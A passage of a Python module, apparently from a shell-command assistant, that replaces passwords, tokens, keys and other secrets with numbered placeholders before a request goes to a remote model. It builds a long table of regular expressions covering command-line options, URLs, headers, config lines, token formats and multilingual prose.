"""What leaves the machine: secrets are replaced before a request goes to a remote host, and
the user is told once per host that requests go there.

`Redaction` replaces each secret with a numbered placeholder (REDACTED_1, …) in everything a
remote backend is sent — the request, the context in the system prompt, few-shot examples — and
puts the originals back into the command that comes back, so `mysql -u app -pREDACTED_1` is
shown as the user typed it and the secret itself never left. Loopback servers get the text as is.

The table below is data: each form names the part of the match that is secret (group "s"),
so the rest (`PGPASSWORD=`, `-p`, `https://bob:`) still tells the model what the request is.
"""

from __future__ import annotations

import base64
import binascii
import functools
import math
import os
import re
from collections import Counter
from urllib.parse import urlparse

from . import paths

PLACEHOLDER = "REDACTED_{}"

_NAME_HINT = r"[A-Za-z0-9_]*(?:PASS|PWD|PW(?![A-Za-z])|SECRET|TOKEN|KEY|CREDENTIAL|AUTH|PSK)[A-Za-z0-9_]*"
# a key in JSON, YAML, INI or an HTTP header whose name says secret (`"password":`, `PRIVATE-TOKEN:`);
# `authorization` has its own form, which keeps the scheme word (Basic, Bearer) readable
_KEY_HINT = r"[\w.-]*(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[_-]?key|private[_-]?key|access[_-]?key|credential)s?[\w.-]*"
# a value, but not a reference to one kept elsewhere: `$VAR`, `$(pass show x)`, `{{ vault_pw }}`,
# `%(pw)s`, or a file's path (`./secrets/db.txt`) — those are not the secret, and the model needs them
# `Read-Host …`: PowerShell asks for it, or fetches it from a store or file
# `<your-api-key>` is a slot to fill, `.*` a pattern matching any value and `****` a masked one
_REF_GUARD = (
    r"(?![\"']?(?:\$[({A-Za-z_]|\{\{|%\(|\.{1,2}/|~/|(?:Read|Get|Import)-[A-Z][A-Za-z]+(?:\s|$)"
    r"|<[^<>\s]+>|\.\*|\*{3,}))"
)
# a label that ends its string (`read -p "Password: " PW`): a prompt, and what follows is no value
_PROMPT_END = r"(?![\"'”»](?:\s|$))"
_VALUE = rf"{_REF_GUARD}(?:\"[^\"\n]*\"|'[^'\n]*'|[^\s;&|)]+)"
# names that say secret but hold a setting about secrets (`PASSWORD_MIN_LENGTH=12`, `KEY_FILE=~/k`,
# `AWS_ACCESS_KEY_ID=…` names a key, it is not one)
_SETTING_NAME = (
    r"(?![\w.-]*[_.-](?:MIN|MAX|LEN|LENGTH|FILE|PATH|DIR|POLICY|EXPIRY|EXPIRES|AGE|DAYS|COUNT|SIZE"
    r"|TTL|TIMEOUT|RETRIES|ENABLED|REQUIRED|HOST|PORT|ID|HELPER|STORE)\b)"
)

# options that make a program read its password on stdin (docker login --password-stdin, openconnect
# --passwd-on-stdin, gpg --passphrase-fd 0, openssl -passin stdin, passwd --stdin)
_STDIN_READER = (
    r"(?:--pass(?:wd|word)?-(?:on-)?stdin|--pass(?:phrase|word)?-fd[ =]0\b|-pass(?:in)?\s+(?:stdin|fd:0)\b"
    r"|\bpasswd\b[^|\n]*--stdin"
    # cryptsetup takes the passphrase from stdin whenever stdin is not a terminal
    r"|\bcryptsetup\s+(?:-\S+\s+)*(?:open|luksOpen|luksFormat|luksAddKey|luksResume)\b)"
)

# Options that take a secret, per program (one spec, read as data): "-p+" also takes the value
# attached (`7z -pX`); "-p!" only attached and "--password=" only after `=` (mysql: a bare `-p`
# asks for the password, and the next word is the database); the others after a space or `=`.
SECRET_OPTIONS: dict[str, str] = {
    "mysql mysqldump mysqladmin mysqlimport mysqlcheck mysqlshow mysqlslap mariadb mariadb-dump": "-p! --password=",
    "zip zipcloak unzip funzip": "-P --password",
    "7z 7za 7zz 7zr": "-p!",  # a bare -p asks for it
    "gpg gpg2": "--passphrase",
    "sqlcmd bcp osql isql": "-P",
    "ldapsearch ldapadd ldapmodify ldapdelete ldapwhoami ldappasswd ldapcompare ldapmodrdn ldapexop": "-w -s",
    "ipmitool": "-P -k -y",
    "az": "-p --password --client-secret",
    "oc kubectl": "-p --password --token",
    "mongo mongosh mongodump mongorestore mongoexport mongoimport mongostat mongotop": "-p --password",
    "ssh-keygen": "-N -P",
    "openssl": "-k -pass -passin -passout -password -hmac",
    "sshpass": "-p+",
    "redis-cli": "-a --pass --askpass",
    "docker podman buildah skopeo helm nerdctl": "--password",
    "snmpwalk snmpget snmpset snmpbulkwalk snmpbulkget snmptrap snmptable": "-c -A -X",
    "keytool": "-storepass -keypass -srcstorepass -deststorepass -srckeypass -destkeypass",
    "mosquitto_pub mosquitto_sub mosquitto_rr": "-P --pw",
    "twine": "-p --password",
    "pg_dump pg_restore psql": "--password",
    "smbclient rpcclient smbmap": "--password",
    "hydra medusa": "-p+",
    "vault": "-token",
    "heroku": "--password",
    "rclone": "--password",
    "ncftp ncftpput ncftpget lftp": "-p",
    "gh": "--body -b",  # gh secret set NAME --body VALUE
}


def _option_form(programs: str, options: str) -> str:
    names = "|".join(re.escape(p) for p in programs.split())
    opts = []
    for o in options.split():
        how = {"+": "(?:=|\\s+|(?=[^\\s=-]))", "!": "(?=[^\\s=-])", "=": "="}.get(o[-1], "(?:=|\\s+)")
        opts.append(re.escape(o.rstrip("+!=")) + how)
    return rf"(?<![\w/.-])(?:{names})\b[^\n|;&]*?\s(?:{'|'.join(opts)})(?P<s>{_VALUE})"


# "password" in the languages caro has been asked in (a Latin-script noun may end in an article or a
# case ending: lösenordet, hasła), and the words for secret codes that are not passwords
# (`passwd` is also the program: `sudo passwd deploy2` names a user; the words that also mean "key"
# or "word" — clave, chiave, ключ, parola — are secrets' names only before a verb: _KEY_NOUN)
_SECRET_NOUN = (
    r"(?:(?<![\w$])(?:[\w-]{0,16}passwort|kennwort|contraseña|mot\s+de\s+passe|passwords?|passphrase|passcode|pw|pwd"
    r"|senha|wachtwoord|has(?:ł|l)o|heslo|lösenord|salasana|parola\s+d'ordine|şifre|sifre|jelsz[óo]"
    r"|adgangskode|passord|lozinka|geslo|(?:recovery|backup)\s+codes?|codes?\s+de\s+(?:secours|récupération)"
    r"|пароль|токен|κωδικός)\w{0,3}\b"
    r"|密码|密碼|口令|密钥|秘钥|令牌|パスワード|暗証番号|비밀번호|암호|كلمة\s+(?:المرور|السر)|סיסמה"
    r"|पासवर्ड|रहस्य\s*शब्द|รหัสผ่าน|रिकवरी\s+कोड|mật\s+khẩu|kata\s+(?:sandi|laluan)|رمز\s+(?:عبور|ورود)|پاس\s*ورڈ"
    r"|парола|лозинка|συνθηματικό)"
)
_KEY_NOUN = rf"(?:{_SECRET_NOUN}|(?<![\w$])(?:clave|chiave|parola|ключ)\w{{0,3}}\b)"
# a value: not a variable, nor code quoted in backticks or a <placeholder> (tldr lines in a prompt)
_PROSE_VALUE = r"(?![$`<])(?!\.{1,2}/|~/|\{\{|\.\*|\*{3,})[^\s,;«»\"'“”，。、`]+"
# a letter and a digit or symbol, six characters or more, not an option, variable, path, home or
# file name (`config2.yml`); lookaheads bounded, so a long word costs linear time
# what a value is made of and where it ends: not inside code (a regex's brackets, a call's parentheses)
_VALUE_CHARS = r"[^\s,;«»\"'“”，。、`()\[\]{}\\]"
_VALUE_END = r"(?=[\s,;.!?»\"'”，。、]|$)"
_NOT_VALUE = r"(?![-$/~<{.`])(?![^\s,;]{0,60}\.[A-Za-z][A-Za-z0-9]{0,4}(?:[\s,;'\"]|$))"
_PASSWORD_SHAPED = rf"{_NOT_VALUE}(?=[^\s]{{0,64}}[^\W\d_])(?=[^\s]{{0,64}}(?:\d|[!#%&*?@^+=]{_VALUE_CHARS})){_VALUE_CHARS}{{6,64}}{_VALUE_END}"
# the same inside quotes: a letter and a digit or symbol, no spaces
_PASSWORD_SHAPED_BARE = r"(?=[^\s\"'”»]{0,64}[^\W\d_])(?=[^\s\"'”»]{0,64}[\d!#%&*?@^+=])[^\s\"'”»]{6,64}"
# stricter, for a value a few words after the noun ("пароль от почты Sn3zh0k!Veter"): a letter, a digit
# and a symbol, or upper and lower case and a digit ("the password of db-prod2" is a name)
# (cases in the Latin, Cyrillic and Greek alphabets: "Медведь-Самовар77" has both)
_UPPER, _LOWER = "[A-ZÀ-ÖØ-ÞА-ЯЁΑ-Ω]", "[a-zß-öø-ÿа-яёα-ω]"
_STRONG_SHAPED = (
    rf"{_NOT_VALUE}(?=[^\s]{{0,64}}\d)(?:(?=[^\s]{{0,64}}[^\W\d_])(?=[^\s]{{0,64}}[!#%&*?@^+=~])"
    rf"|(?=[^\s]{{0,64}}{_UPPER})(?=[^\s]{{0,64}}{_LOWER})){_VALUE_CHARS}{{6,64}}{_VALUE_END}"
)

# words that go on the sentence after "the token is": where it is kept or what state it is in
_NOT_PROSE = (
    r"(?!(?:stored|kept|saved|located|set|defined|configured|in|on|at|under|from|not|now|still|being|been|"
    r"required|missing|expired|invalid|wrong|correct|empty|given|generated|rotated|hidden|encrypted|too|very|"
    r"printed|written|shown|displayed|sent|emailed|attached|here|there|below|above)\b)"
)
# a recovery or one-time code as services print them: groups of letters and digits joined by dashes
_CODE_SHAPED = r"(?=[\w-]*\d)(?=[\w-]*[A-Za-z])[A-Za-z0-9]{3,8}(?:-[A-Za-z0-9]{3,8}){2,}(?![\w-])"

# what a code opens, in the languages caro has been asked in
_OPENS = (
    r"(?:l'|l’|d'|d’)?(?:puerta|garaje|port[óo]n|alarma|caja\s+fuerte|porte|portail|garage|alarme|coffre|t[üu]r|tor|"
    r"alarm\w*|tresor|safe|porta|portone|cancello|allarme|cassaforte|port[ãa]o|cofre|door|gate|keypad|lockbox)\b"
)

FORMS: list[tuple[str, re.Pattern]] = [
    (name, re.compile(rx, flags))
    for name, rx, flags in [
        # key material first: whole blocks
        (
            "pem-block",
            (
                r"(?P<s>-----BEGIN [A-Z0-9 ]*(?:PRIVATE KEY|PGP PRIVATE KEY BLOCK|OPENSSH PRIVATE KEY)-----"
                r".*?(?:-----END [A-Z0-9 ]*-----|$))"
            ),
            re.DOTALL,
        ),
        # credentials inside URLs: user:password@host, webhook paths, token-bearing query strings
        # the password runs to the word's last `@` (`postgres://app:p@ss/w0rd@db:5432`)
        ("url-token-user", r"(?i)\b[a-z][a-z0-9+.-]*://(?P<s>[A-Za-z0-9_-]{20,})@", 0),
        ("url-userinfo", r"(?i)\b[a-z][a-z0-9+.-]*://[^\s/:@]*:(?P<s>[^\s]+?)@(?=[^\s@]*(?:[\s'\"]|$))", 0),
        ("slack-webhook", r"(?i)hooks\.slack\.com/(?:services|workflows|triggers)/(?P<s>[A-Za-z0-9/_-]+)", 0),
        ("discord-webhook", r"(?i)discord(?:app)?\.com/api/webhooks/(?P<s>[0-9]+/[A-Za-z0-9_-]+)", 0),
        ("teams-webhook", r"(?i)\.webhook\.office\.com/(?P<s>\S+)", 0),
        ("generic-webhook", r"(?i)/(?:webhooks?|hooks)/(?P<s>[A-Za-z0-9_-]{16,}(?:/[A-Za-z0-9_-]+)*)", 0),
        (
            "url-query-secret",
            (
                r"(?i)[?&](?:access_token|token|api_key|apikey|app_?id|app_?key|client_secret|private_token|auth_token"
                r"|key|secret|sig|signature|password|auth)=(?P<s>[^&\s'\"]+)"
            ),
            0,
        ),
        # HTTP headers
        (
            "authorization-header",
            r"(?i)\b(?:proxy-)?authorization:\s*(?:basic|bearer|token|digest|negotiate)?\s*(?P<s>[^\s'\"]+)",
            0,
        ),
        ("api-key-header", r"(?i)\bx-(?:api-key|auth-token|access-token|goog-api-key)\s*:\s*(?P<s>[^\s'\"]+)", 0),
        ("cookie-header", r"(?i)\bcookie:\s*(?P<s>[^'\"\n]+)", 0),
        ("bearer-word", r"(?i)\bbearer\s+(?P<s>[A-Za-z0-9._~+/=-]{8,})", 0),
        # environment assignments whose names say secret (sh, env, export, fish's set -x)
        ("env-assignment", rf"\b{_SETTING_NAME}{_NAME_HINT}=(?P<s>{_VALUE})", re.IGNORECASE),
        (
            "fish-set",
            rf"\bset\s+(?:-[a-zA-Z]+\s+)*{_SETTING_NAME}{_NAME_HINT}\s+(?:=\s*)?(?P<s>(?![-=]){_VALUE})",
            re.IGNORECASE,
        ),
        # INI and .env lines (`pass = X`), also inside a quoted string where `\n` stands for a line
        # break (`tee app.ini <<< $'[smtp]\npass = X'`)
        (
            "ini-line",
            rf"(?im)(?:^|(?<=[\s\[\"'(])|(?<=\\n)){_SETTING_NAME}{_KEY_HINT}[ \t]*=[ \t]*{_REF_GUARD}(?P<s>\"[^\"\n]*\"|'[^'\n]*'|[^\s;&|)'\"\\]+)",
            0,
        ),
        (
            "key-value",
            rf"(?i)(?:^|(?<=[\s{{,\"'(]))[\"']?{_SETTING_NAME}{_KEY_HINT}[\"']?[ \t]*:[ \t]*{_REF_GUARD}(?P<s>\"[^\"\n]*\"|'[^'\n]*'|[^\s,;&|)}}\]'\"]+)",
            0,
        ),
        # `aws configure set aws_secret_access_key X`, `git config github.token X`, `yarn config set npmAuthToken X`
        (
            "config-set",
            (
                rf"(?i)\b(?:config(?:ure)?(?:\s+set)?|set)\s+(?:--?\S+\s+)*{_SETTING_NAME}[\w.:/-]*(?:pass(?:word|wd)?|pwd|secret"
                rf"|token|api[_-]?key|private[_-]?key|access[_-]?key|credential|auth)[\w.-]*\s+(?:=\s*)?(?P<s>(?![-=]){_VALUE})"
            ),
            0,
        ),
        # a password fed on stdin to a program that reads it there (docker login --password-stdin,
        # openconnect --passwd-on-stdin, podman, helm registry login …)
        (
            "stdin-password",
            rf"\b(?:echo|printf)\s+(?:-[neE]+\s+|['\"]%s\\n['\"]\s+)?(?P<s>{_VALUE})\s*\|[^|\n]*?{_STDIN_READER}",
            0,
        ),
        # … or on a here-string (`openconnect --passwd-on-stdin vpn <<< 'X'`, `sudo -S cmd <<< X`)
        (
            "stdin-herestring",
            rf"(?:{_STDIN_READER}|\bsudo\b[^\n|;&]*?\s-[a-zA-Z]*S)\b[^\n|;&]*?<<<\s*(?P<s>{_VALUE})",
            0,
        ),
        ("httpie-auth", r"\b(?:http|https|xh)\b[^\n|;&]*?\s(?:-a|--auth)[ =]+['\"]?[^\s:'\"]+:(?P<s>[^\s'\"]+)", 0),
        ("credentials-pair", r"(?i)\bcredentials?\s+[^\s:]+:(?P<s>[^\s,;'\"]+)", 0),
        ("pgpass-line", r"(?:[^\s:'\"]+:){4}(?P<s>[^\s:'\"]+)['\"]?\s*>{1,2}\s*\S*\.pgpass", 0),
        (
            "oracle-connect",
            r"\b(?:sqlplus|sqlldr|rman|expdp|impdp|exp|imp|dgmgrl|sqlcl|sql)\b[^\n|;&]*?\s['\"]?[\w$#.]+/(?P<s>[^\s@/'\"]+)@",
            0,
        ),
        ("pgpass-shape", r"(?m)^[ \t]*[^\s:'\"]+:(?:\d{2,5}|\*):[^\s:'\"]+:[^\s:'\"]+:(?P<s>[^\s:'\"]+)[ \t]*$", 0),
        # programs whose secret is a word in a known place
        ("rabbitmqctl-user", rf"\brabbitmqctl\s+(?:-\S+\s+)*(?:add_user|change_password)\s+\S+\s+(?P<s>{_VALUE})", 0),
        ("oathtool-key", r"\boathtool\b(?:\s+-[\w=-]+)*\s+(?P<s>[^\s;&|-][^\s;&|]*)", 0),
        ("vault-login", r"\bvault\s+login\s+(?:-\S+\s+)*(?P<s>[^\s;&|-][^\s;&|]*)", 0),
        (
            "sudo-stdin",
            rf"\b(?:echo|printf)\s+(?:-[neE]+\s+|['\"]%s\\n['\"]\s+)?(?P<s>{_VALUE})\s*\|\s*sudo\b[^\n|;&]*?\s-[a-zA-Z]*S",
            0,
        ),
        (
            "chpasswd",
            r"\b(?:echo|printf)\s+(?:-[neE]+\s+)?['\"]?[^\s:'\"]+:(?P<s>[^\s'\"]+)['\"]?\s*\|\s*(?:sudo\s+(?:-\S+\s+)*)?chpasswd",
            0,
        ),
        (
            "htpasswd-b",
            r"\bhtpasswd\s+[^\n|;&]*?-[a-zA-Z]*b[a-zA-Z]*\s[^\n|;&]*?(?P<s>[^\s;&|]+)(?=\s*(?:$|[\n|;&)]))",
            0,
        ),
        ("wpa-passphrase", rf"\bwpa_passphrase\s+(?:\"[^\"]*\"|'[^']*'|\S+)\s+(?P<s>{_VALUE})", 0),
        (
            "nmcli-password",
            rf"\bnmcli\b[^\n|;&]*?\s(?:password|(?:802-11-wireless-security\.|wifi-sec\.)?psk)\s+(?P<s>{_VALUE})",
            0,
        ),
        ("freerdp-p", rf"\b(?:xfreerdp|wlfreerdp|sdl-freerdp|freerdp)\b[^\n|;&]*?\s/p(?:assword)?:(?P<s>{_VALUE})", 0),
        ("netrc-line", r"(?i)\blogin\s+\S+\s+password\s+(?P<s>[^\s'\"]+)", 0),
        (
            "sql-password",
            (
                r"(?i)\b(?:identified\s+by(?:\s+password)?|with\s+(?:encrypted\s+)?password|password\s*\(|password\s+(?=['\"]))\s*"
                r"(?P<s>'[^'\n]*'|\"[^\"\n]*\")"
            ),
            0,
        ),
        *[(f"option:{progs.split()[0]}", _option_form(progs, opts), 0) for progs, opts in SECRET_OPTIONS.items()],
        # options of common clients
        (
            "password-option",
            (
                r"(?i)(?:^|\s)--?(?:password|passwd|pass|pwd|passphrase|http-password|ftp-password|proxy-password|db-password|client-secret|"
                r"secret|token|auth-token|api-key|apikey|access-key|secret-key|private-key-password"
                r"|(?:license|licence|product|activation|registration)-(?:key|code))"
                rf"(?:=|\s+)(?P<s>{_VALUE})"
            ),
            0,
        ),
        (
            "docker-login-p",
            r"\b(?:docker|podman|buildah|skopeo|helm)\s+(?:registry\s+)?login\b[^\n|;&]*?\s-p\s*(?P<s>[^\s;&|?!.,][^\s;&|]*)",
            0,
        ),
        ("sshpass", r"\bsshpass\s+-p\s*(?P<s>[^\s;&|]+)", 0),
        ("redis-cli-a", r"\bredis-cli\b[^\n|;&]*?\s-a\s+(?P<s>[^\s;&|]+)", 0),
        (
            "user-colon-password",
            (
                r"(?:\s-u|--user|--proxy-user|\s--?auth|--basic-auth|--credentials?|--creds)[ =]+['\"]?[^\s:'\"/]+:(?!//)(?!\d+\b)"
                r"(?P<s>'[^'\n]+'|\"[^\"\n]+\"|[^\s'\"]+)"
            ),
            0,
        ),
        ("smb-user-percent", r"\s-U\s+['\"]?[^\s%'\"]+%(?P<s>[^\s'\"]+)", 0),
        ("openssl-pass", r"-pass(?:in|out)?\s+(?:pass|env):(?P<s>\S+)", 0),
        ("conninfo-password", rf"(?i)\bpassword\s*=\s*{_REF_GUARD}(?P<s>'[^']*'|[^\s'\";]+)", 0),
        ("azure-account-key", r"(?i)\b(?:AccountKey|SharedAccessSignature|SharedAccessKey)=(?P<s>[^;\s'\"]+)", 0),
        # tokens recognisable by their shape
        ("aws-key-id", r"\b(?P<s>(?:AKIA|ASIA|AGPA|AIDA|AROA|ANPA|ANVA|AIPA)[0-9A-Z]{16})\b", 0),
        ("github-token", r"\b(?P<s>(?:gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}))\b", 0),
        ("gitlab-token", r"\b(?P<s>glpat-[A-Za-z0-9_-]{20,})", 0),
        ("slack-token", r"\b(?P<s>xox[abposr]-[A-Za-z0-9-]{10,})", 0),
        ("openai-anthropic-key", r"\b(?P<s>sk-(?:ant-|proj-)?[A-Za-z0-9_-]{16,})", 0),
        ("stripe-key", r"\b(?P<s>(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{16,})\b", 0),
        ("google-api-key", r"\b(?P<s>AIza[0-9A-Za-z_-]{30,})", 0),
        ("google-oauth", r"\b(?P<s>ya29\.[0-9A-Za-z_-]{20,})", 0),
        ("huggingface-token", r"\b(?P<s>hf_[A-Za-z0-9]{30,})\b", 0),
        ("npm-pypi-token", r"\b(?P<s>(?:npm_[A-Za-z0-9]{30,}|pypi-[A-Za-z0-9_-]{40,}))", 0),
        ("sendgrid-key", r"\b(?P<s>SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,})", 0),
        ("digitalocean-token", r"\b(?P<s>do[opr]_v1_[a-f0-9]{40,})", 0),
        ("age-secret-key", r"\b(?P<s>AGE-SECRET-KEY-1[0-9A-Z]{20,})", 0),
        # hex is also how digests look (and base32 and UUIDs are common ids), so only right after a
        # word that says it is a key: TOTP secrets, hex API keys, UUID-shaped tokens
        (
            "blob-after-key-word",
            (
                r"(?i)(?<![:/])\b(?:key|token|secret|apikey|api[ _-]key|password)\b\W{0,3}(?:is\s+|=\s*|:\s*)?(?P<s>[0-9a-f]{24,}"
                r"|(?-i:[A-Z2-7]{16,}={0,6})|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})\b"
            ),
            0,
        ),
        ("jwt", r"\b(?P<s>eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,})", 0),
        # csh's `setenv RESTIC_PASSWORD X`
        ("csh-setenv", rf"\bsetenv\s+{_SETTING_NAME}{_NAME_HINT}\s+(?P<s>{_VALUE})", re.IGNORECASE),
        # an expect script answering a password prompt: `expect "assword:"; send "X\r"`
        (
            "expect-send",
            (
                r"(?i)\bexpect\s+(?:-\w+\s+)*[\"'{]?[^\"'}\n;]*(?:assword|passphrase|\bpin\b|passcode)[^\"'}\n;]*[\"'}]?"
                r"\s*[;\n]\s*(?:exp_)?send\s+(?:--\s+)?(?:\"(?P<s>[^\"\n]*?)(?:\\r|\\n)*\"|'(?P<s1>[^'\n]*?)(?:\\r|\\n)*'|(?P<s2>[^\s;]+?)(?:\\r|\\n)*(?=[\s;]|$))"
            ),
            0,
        ),
        # a password fed to a program named for passwords (vncpasswd, smbpasswd, chpasswd, htpasswd -i …)
        (
            "stdin-to-passwd-program",
            rf"\b(?:echo|printf)\s+(?:-[neE]+\s+|['\"]%s\\n['\"]\s+)?(?P<s>{_VALUE})\s*\|\s*(?:sudo\s+(?:-\S+\s+)*)?[\w-]*passw(?:or)?d\b",
            0,
        ),
        (
            "herestring-to-passwd-program",
            rf"(?<![\w/-])[\w-]*passw(?:or)?d\b[^\n|;&]*?<<<\s*(?P<s>{_VALUE})",
            0,
        ),
        # password managers unlocked on the command line (`bw unlock X`, `bw login you@x X`)
        ("password-manager-unlock", rf"\bbw\s+(?:unlock|login\s+\S+)\s+(?!-)(?P<s>{_VALUE})", 0),
        # a key noun of another language straight before a password-shaped value ("der Schlüssel X",
        # "la clé X"); the English "key" names files and ids too often
        (
            "key-noun-value",
            rf"(?i)(?<![\w$])(?:schlüssel\w{{0,2}}|clé|clef|chiave|clave|ключ\w{{0,2}})\s+(?P<s>{_PASSWORD_SHAPED})",
            0,
        ),
        # codes of doors, gates, alarms and safes by their nouns in other languages ("el código de la
        # puerta es 73914"), and a number before "is the code of the alarm" ("8316 c'est le code de
        # l'alarme"); an exit, error or status code is no secret, so the noun must say what it opens
        (
            "door-code-languages",
            (
                rf"(?i)\b(?:c[óo]digo|code|codice|zahlencode|combinaci[óo]n|combinaison|digicode)"
                rf"(?:\s+[\w'’-]+){{0,4}}?\s+{_OPENS}(?:\s+[\w'’-]+){{0,3}}?\s+(?:es|est|ist|è|é|is|lautet|:)\s+(?P<s>\d{{3,8}})\b"
            ),
            0,
        ),
        (
            "number-is-the-code",
            (
                r"(?i)(?<![\w.:/-])(?P<s>\d{3,8})\s+(?:c'est|c’est|est|es|ist|è|é|is)\s+(?:le|la|el|der|die|das|il|o|a|the|my|mon|ma|mi|mein|meine|il\s+mio)\s+"
                rf"(?:code|c[óo]digo|codice|pin|passcode|zahlencode)(?:\s+[\w'’-]+){{0,3}}?\s+{_OPENS}"
            ),
            0,
        ),
        # a value given for logging in: "use 'gatito123' to log in as admin", "usa X para entrar"
        (
            "value-to-log-in",
            (
                r"(?i)\b(?:use|usa|usar|utiliza|utilise[rz]?|nutze|benutze|verwende|gebruik|użyj)\s+"
                rf"(?:[\"'“«](?P<s1>{_PASSWORD_SHAPED_BARE})[\"'”»]|(?-i:(?P<s>{_STRONG_SHAPED})))\s+"
                r"(?:to\s+(?:log\s*in|sign\s*in|login|unlock)|para\s+(?:entrar|iniciar\s+sesi[óo]n|acceder)"
                r"|pour\s+(?:te\s+|vous\s+|se\s+)?(?:connecter|identifier)|zum\s+(?:Anmelden|Einloggen)|per\s+(?:accedere|entrare)"
                r"|om\s+in\s+te\s+loggen|aby\s+si[ęe]\s+zalogowa[ćc])"
            ),
            0,
        ),
        # a credentials file written whole: `printf "alice\nS3cret\n" > /etc/openvpn/auth.txt`
        (
            "credentials-file-text",
            (
                r"(?i)\b(?:echo(?:\s+-[neE]+)?|printf)\s+(?:\"(?P<s1>[^\"\n]+)\"|'(?P<s2>[^'\n]+)')\s*"
                r"(?:>>?|\|\s*(?:sudo\s+)?tee(?:\s+-a)?)\s*[\"']?(?![^\s\"'|;&]*pam\.d/)[^\s\"'|;&]*?"
                # a file named for what it holds: auth.txt, db_password, .pgpass, vpn-creds.conf, token
                r"(?:^|/|[\w-]*[._-]|\.)(?:passwords?|passwd|pgpass|secrets?|tokens?|credentials?|creds|auth)"
                r"(?:\.(?:txt|conf|cfg|ini|env|json))?(?=[\"'\s;&|]|$)"
            ),
            0,
        ),
        # prose: "my password is hunter2", "with token abc123"
        (
            "prose-secret",
            (
                r"(?i)\b(?:password|passwd|passphrase|pass\s+phrase|passcode|pwd|pin|token|secret|api[ _-]?key"
                r"|(?:wifi|wi-fi|wpa|wlan|network|vault|master|root|admin|access|private|encryption|license|unlock)"
                r"\s+(?:key|code|token|pin))(?:\s+(?:for|of|to|on)\s+(?:the\s+|my\s+|our\s+)?[\w.-]+(?:\s+[\w.-]+)?)?"
                rf"\s*(?:[=:]|\bis\b)\s*{_PROMPT_END}{_REF_GUARD}{_NOT_PROSE}"
                r"(?:\"(?P<s1>[^\"\n]+)\"|'(?P<s2>[^'\n]+)'|“(?P<s3>[^”\n]+)”|(?P<s>[^\s,;]+))"
            ),
            0,
        ),
        # the same in the languages caro has been asked in: "Mein WLAN-Passwort ist …", "la contraseña
        # de la base de datos es …", "le mot de passe du serveur est « … »", "la password di root è …"
        (
            "prose-secret-languages",
            (
                rf"(?i){_KEY_NOUN}"
                # whose: "de la base de datos", "du serveur FTP", "di root", "voor de NAS" (a word that
                # is not one of these, as in "the password prompt is broken", is no secret's name)
                r"(?:\s+(?:de|del|della|di|du|do|da|des|der|die|das|für|vom|voor|van|of|for|para|pour|per)"
                r"(?:\s+[\w'.-]+){1,4}?)?"
                r"(?:\s+(?:ist|es|est|è|é|is|jest|är|lautet|=|:)\s+|\s*[:=：]\s*|\s*(?:是|为|為|は|는|은)\s*)"
                rf"{_PROMPT_END}{_NOT_PROSE}[«\"'“]?\s*(?P<s>{_PROSE_VALUE})"
            ),
            0,
        ),
        # the noun straight before the value, with no verb ("y la contraseña Pimiento#7", "lösenordet
        # Kanelbulle#9", "le mot de passe « … »"): only a quoted value or one shaped like a password
        # (a letter and a digit or symbol), so "the password prompt" and "reset password for bob" stay
        (
            "secret-noun-value",
            (
                rf"(?i){_SECRET_NOUN}\s+(?:«\s*(?P<s1>[^»\n]+?)\s*»|“(?P<s2>[^”\n]+)”|\"(?P<s3>[^\"\n]+)\""
                rf"|'(?P<s4>[^'\n]+)'|(?P<s>{_PASSWORD_SHAPED}))"
            ),
            0,
        ),
        # the noun, a few words of whose ("le mot de passe root du serveur web01 est « … »", "пароль от
        # почты …"), then a quoted or strongly password-shaped value
        (
            "secret-noun-words-value",
            (
                rf"(?i){_SECRET_NOUN}(?:\s+[^\s«“\"']+){{1,4}}?\s+(?:(?:ist|es|est|è|é|is|jest|är|lautet|:|=)\s+)?"
                rf"(?:«\s*(?P<s1>[^»\n]+?)\s*»|“(?P<s2>[^”\n]+)”|(?-i:(?P<s>{_STRONG_SHAPED})))"
            ),
            0,
        ),
        # "the recovery code they gave me is 5h8q-2wz7-kd9m": a code's noun, a few words, a verb, a code
        (
            "code-after-words",
            (
                r"(?i)\b(?:recovery|backup|reset|verification|one-time|2fa|mfa|otp|license|licence|activation)"
                rf"\s+(?:codes?|keys?)(?:\s+[^\s]+){{0,4}}?\s+(?:is|are|was|:|=)\s+(?P<s>{_CODE_SHAPED})"
            ),
            0,
        ),
        # a wallet's seed phrase: 12 to 24 plain words after the word for it
        (
            "seed-phrase",
            (
                # "seed phrase", "mnemonic words", or "seed is"/"seed:"; the words are plain lowercase
                # words none of which is one of the little words a sentence has ("seed the database
                # with fake users and then …" is a request)
                r"(?i)\b(?:(?:seed|mnemonic|recovery|backup|wallet)\s+(?:phrase|words)\b(?:\s+[\w-]+){0,3}?\s*(?:\bis\b|[:=])?"
                r"|(?:seed|mnemonic)\s*(?:\bis\b|[:=]))\s*:?\s*[\"']?"
                r"(?P<s>(?-i:(?!(?:\S+\s+){0,23}(?:the|and|with|for|of|to|in|on|a|an|then|by|from|is|are|it)\b)"
                r"[a-z]+(?:\s+[a-z]+){11,23}))\b"
            ),
            0,
        ),
        # network gear: `snmp-server community NAME RW`, "the snmp community string is …"
        ("snmp-community", r"(?i)\bsnmp[\w-]*\b[^\n|;&]*?\bcommunity(?:\s+string)?\s+(?:is\s+)?(?P<s>[^\s,;]+)", 0),
        # PowerShell's environment (`$env:API_KEY = "…"`), XML elements (`<password>…</password>`)
        ("powershell-env", rf"(?i)\$env:{_NAME_HINT}\s*=\s*(?P<s>{_VALUE})", 0),
        (
            "xml-element",
            r"(?i)<(?P<tag>[\w:.-]*(?:pass(?:word|wd|phrase)?|secret|token|api[_-]?key|private[_-]?key)[\w:.-]*)>(?P<s>[^<\n]+)</(?P=tag)>",
            0,
        ),
        # a config file's `password VALUE` line (msmtp, netrc-style files pasted whole)
        (
            "config-password-line",
            r"(?m)(?<=\n)[ \t]*(?:password|passwd|passphrase)[ \t]+(?P<s>\S[^\n]*?)[ \t]*(?=\n|$)",
            0,
        ),
        # the value before its noun: "using raspberry-Lodz-2718 as the password", "X is my password"
        (
            "value-as-secret",
            (
